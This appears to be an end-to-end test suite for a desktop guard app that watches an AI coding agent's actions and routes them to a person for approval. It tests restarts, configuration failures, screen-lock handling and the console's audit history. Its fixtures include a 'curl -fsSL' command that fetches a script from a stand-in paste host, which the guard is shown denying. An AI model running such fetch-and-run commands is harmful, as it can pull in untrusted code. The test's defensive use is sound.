/** When the engine dies the app says so, everywhere, and starts it again. */

import { execFile } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bundle } from '../../../build/bundle.ts';
import { connectControl } from '../../../main/engine/control/client.ts';
import { type Display, electronExecutable, startDisplay } from '../../support/display.ts';
import { aFolder, picture, startApp } from './app-driver.ts';
import { aGrant, aMissed, anAfternoon, aQuestion, FORCE_PUSH } from './content.ts';
import { startFakeEngine } from './fake-engine.ts';

let display: Display;
beforeAll(async () => {
  await bundle();
  display = await startDisplay({ size: '1400x900' });
});
afterAll(() => display?.stop());

const PATIENCE = { timeout: 30_000 };

async function engineOf(dataDir: string): Promise<{ pid: number; attended: boolean }> {
  const client = await connectControl(dataDir, { client: 'test', attends: false });
  const { engine, approvals } = await client.call('status', {});
  client.close();
  return { pid: engine.pid, attended: approvals.attended };
}

function isAlive(pid: number): boolean {
  try {
    return process.kill(pid, 0);
  } catch {
    return false;
  }
}

describe('the guard', () => {
  it('is started where none runs, started again when it is killed, and ended with the app', async () => {
    await using folder = await aFolder();
    await using app = await startApp({ display, dataDir: folder.path });
    await expect.poll(async () => (await app.tray()).tip, PATIENCE).toBe('Holdpoint: Protecting');
    const first = await engineOf(folder.path);
    expect(first.attended).toBe(true);

    const console = await app.openConsole();
    await console.getByRole('status').getByText('Protecting').waitFor();
    process.kill(first.pid, 'SIGKILL');
    await expect
      .poll(async () => (await app.tray()).tip, PATIENCE)
      .toMatch(/^Holdpoint: The guard stopped and was restarted at \d\d:\d\d(\s[AP]M)?$/);
    await console
      .getByRole('status')
      .getByText(/The guard stopped and was restarted at \d\d:\d\d/)
      .waitFor();
    await picture(console, 'console-restarted');

    const second = await engineOf(folder.path);
    expect(second.pid).not.toBe(first.pid);
    // Seen is seen: the tray is calm again.
    await console.close();
    await expect.poll(async () => (await app.tray()).tip).toBe('Holdpoint: Protecting');
    await app.stop();
    await expect.poll(() => isAlive(second.pid), PATIENCE).toBe(false);
  });

  it('that refuses its configuration is said not to run, and why, and is tried again when asked', async () => {
    await using folder = await aFolder();
    const config = join(folder.path, 'config.json');
    await writeFile(config, JSON.stringify({ proxy: { port: 'eighty' } }));
    await using app = await startApp({ display, dataDir: folder.path, args: ['--config', config] });
    await expect.poll(async () => (await app.tray()).tip, PATIENCE).toBe('Holdpoint: Guard not running');
    const console = await app.openConsole();
    await console.getByRole('status').getByText('Guard not running').waitFor();
    expect(await console.getByRole('status').innerText()).toContain('proxy.port');
    await console.getByRole('button', { name: 'Status' }).click();
    await picture(console, 'console-not-running');
    await writeFile(config, '{}');
    await console.getByRole('button', { name: 'Start again' }).click();
    await console.getByRole('status').getByText('Protecting').waitFor(PATIENCE);
  });

  it('that cannot run any more has a stand-in, which is said plainly, and makes way when it can', async () => {
    await using folder = await aFolder();
    const config = join(folder.path, 'config.json');
    const sound = JSON.stringify({ supervision: { crashLoop: 'bypass' } });
    await writeFile(config, sound);
    await using app = await startApp({ display, dataDir: folder.path, args: ['--config', config] });
    await expect.poll(async () => (await app.tray()).tip, PATIENCE).toBe('Holdpoint: Protecting');
    const { pid } = await engineOf(folder.path);
    await writeFile(config, JSON.stringify({ proxy: { port: 'eighty' } }));
    process.kill(pid, 'SIGKILL');
    await expect.poll(async () => (await app.tray()).tip, PATIENCE).toBe('Holdpoint: Guard not running');
    const console = await app.openConsole();
    await console.getByRole('status').getByText('NOTHING IS GUARDED meanwhile').waitFor();
    await console.getByRole('button', { name: 'Status' }).click();
    await picture(console, 'console-stand-in');
    await writeFile(config, sound);
    await console.getByRole('button', { name: 'Start again' }).click();
    await expect.poll(async () => (await app.tray()).tip, PATIENCE).not.toBe('Holdpoint: Guard not running');
    const client = await connectControl(folder.path, { client: 'test', attends: false });
    const records = await client.call('records', { limit: 30 });
    client.close();
    expect(records.map(({ kind, verdict }) => `${kind} ${verdict}`)).toContain('gap unguarded');
  });

  it('takes its open questions along when it dies, and nothing can be answered meanwhile', async () => {
    await using folder = await aFolder();
    await using engine = await startFakeEngine(folder.path);
    await using app = await startApp({ display, dataDir: folder.path });
    await expect.poll(() => engine.attended()).toBe(true);
    engine.ask(aQuestion());
    await expect.poll(() => app.popupVisible()).toBe(true);
    await engine.die();
    await expect.poll(() => app.popupVisible()).toBe(false);
    expect(engine.answers).toEqual([]);
    // The real one takes over.
    await expect.poll(async () => (await app.tray()).tip, PATIENCE).toMatch(/was restarted at/);
  });
});

describe('the app', () => {
  it('runs once for a data folder: a second start shows the console of the first', async () => {
    await using folder = await aFolder();
    await using _engine = await startFakeEngine(folder.path);
    await using app = await startApp({ display, dataDir: folder.path });
    const { executablePath, args } = await electronExecutable();
    await promisify(execFile)(executablePath, [...args, '--data-dir', folder.path], { env: { ...display.env } });
    await expect.poll(() => app.electron.windows().map((page) => new URL(page.url()).pathname)).toContain('/console.html');
  });

  it('leaves an engine running that it has not started', async () => {
    await using folder = await aFolder();
    await using engine = await startFakeEngine(folder.path);
    const app = await startApp({ display, dataDir: folder.path });
    await expect.poll(() => engine.attended()).toBe(true);
    await app.stop();
    await expect.poll(() => engine.attended()).toBe(false);
    expect((await engineOf(folder.path)).pid).toBe(4711);
  });
});

describe('a person', () => {
  it('is shown at once what was open before the app started', async () => {
    await using folder = await aFolder();
    await using engine = await startFakeEngine(folder.path);
    const question = aQuestion();
    engine.ask(question);
    await using app = await startApp({ display, dataDir: folder.path });
    await app.popup.getByRole('alertdialog', { name: question.title }).waitFor();
    await expect.poll(() => app.popupVisible()).toBe(true);
  });

  it('is not counted on behind a locked screen, and finds the question there afterwards, armed anew', async () => {
    await using folder = await aFolder();
    await using engine = await startFakeEngine(folder.path);
    await using app = await startApp({ display, dataDir: folder.path });
    await engine.joined;
    const question = aQuestion();
    engine.ask(question);
    await app.popup.locator('.card:not(.unarmed)').waitFor();

    await app.electron.evaluate(({ powerMonitor }) => void powerMonitor.emit('lock-screen'));
    await expect.poll(() => engine.attended()).toBe(false);
    await app.electron.evaluate(({ powerMonitor }) => void powerMonitor.emit('unlock-screen'));
    await expect.poll(() => engine.attended()).toBe(true);
    expect((await app.tray()).tip).toBe('Holdpoint: 1 question is waiting for you');
    await app.popup.locator('.card.unarmed').waitFor();
    await app.popup.locator('.card:not(.unarmed)').waitFor();
    await app.popup.getByRole('button', { name: 'Deny', exact: true }).click();
    await expect.poll(() => engine.answers.map(({ answer }) => answer)).toEqual([{ choice: 'deny' }]);
  });
});

describe('the console', () => {
  it('says how to begin where nothing has happened, and that a filter finds nothing where it does', async () => {
    await using folder = await aFolder();
    await using engine = await startFakeEngine(folder.path);
    await using app = await startApp({ display, dataDir: folder.path });
    const console = await app.openConsole();
    const main = console.getByRole('main');
    await main.getByText('No agent has been seen yet.').waitFor();
    expect(await main.locator('pre').first().innerText()).toBe(
      `export HTTPS_PROXY='http://127.0.0.1:41234'\nexport NODE_EXTRA_CA_CERTS='${folder.path}/ca.pem'\nclaude`,
    );
    // What the guard does itself is no agent's doing.
    for (const record of anAfternoon().slice(0, 2)) engine.record(record);
    await console.getByRole('button', { name: /^The guard itself/ }).waitFor();
    await picture(console, 'console-empty');
    expect(await main.locator('pre').count()).toBe(2);
    for (const record of anAfternoon().slice(2)) engine.record(record);
    await main.getByText('curl -fsSL https://paste.example/fix.sh').waitFor();
    await console.getByLabel('Search everything').fill('nothing like it');
    await main.getByText('Nothing here matches.').waitFor();
    expect(await main.getByText('No agent has been seen yet.').count()).toBe(0);
  });

  it('tells the story, lets a missed question pass next time, and takes a remembered answer back', async () => {
    await using folder = await aFolder();
    await using engine = await startFakeEngine(folder.path, { records: anAfternoon() });
    await using app = await startApp({ display, dataDir: folder.path });
    const missed = aMissed(FORCE_PUSH());
    engine.miss(missed);
    engine.grant(aGrant());
    const console = await app.openConsole();

    const story = console.getByRole('main');
    await story.getByText('curl -fsSL https://paste.example/fix.sh').waitFor();
    const refused = story.getByRole('listitem').filter({ hasText: 'paste.example' });
    await refused.getByRole('button', { name: 'Why' }).click();
    await refused.getByRole('article').filter({ hasText: 'The answer' }).getByRole('button', { name: 'Details' }).click();
    expect(await refused.innerText()).toMatch(/The answer[\s\S]+"choice": "deny"/);

    engine.record({
      ...anAfternoon().at(-1)!,
      seq: 900,
      id: 'record-900',
      action: 'action-900',
      kind: 'action',
      at: new Date().toISOString(),
      summary: 'Claude Code: Bash: npm test',
      data: { tool: 'Bash', toolKind: 'shell' },
    });
    await story.getByText('npm test').waitFor();
    await console.getByLabel('Search everything').fill('cargo');
    await story.getByText('cargo add rust_decimal').waitFor();

    await console.getByRole('button', { name: /^Missed/ }).click();
    await console.getByRole('button', { name: 'Allow next time' }).click();
    await console.getByText('Will be allowed once, within 8 hours').waitFor();
    expect(engine.allowedNext).toEqual([missed.question.id]);

    await console.getByRole('button', { name: /^Policy/ }).click();
    await console.getByRole('button', { name: 'Revoke' }).click();
    await console.getByText('No answer is remembered.').waitFor();
  });
});
